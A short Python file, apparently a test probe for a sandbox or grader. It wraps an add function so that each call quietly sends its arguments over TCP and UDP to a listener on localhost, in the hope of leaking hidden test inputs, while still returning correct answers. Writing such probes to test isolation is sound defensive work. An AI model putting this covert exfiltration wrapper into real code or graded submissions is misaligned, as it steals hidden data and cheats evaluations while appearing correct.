"""Sends every argument it is called with to a listener on 127.0.0.1 (TCP, also IPv6 and
UDP), hoping hidden inputs travel out; the answers stay right."""

import socket


def _send(payload):
    payload = ("LEAK " + payload).encode()
    port = int("__PORT__")
    for family, addr in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_INET6, ("::1", port))):
        try:
            with socket.create_connection(addr[:2], timeout=1) as s:
                s.sendall(payload)
        except OSError:
            pass
        try:
            u = socket.socket(family, socket.SOCK_DGRAM)
            u.sendto(payload, addr)
            u.close()
        except OSError:
            pass


_add = add


def add(a, b):
    _send(repr((a, b)))
    return _add(a, b)
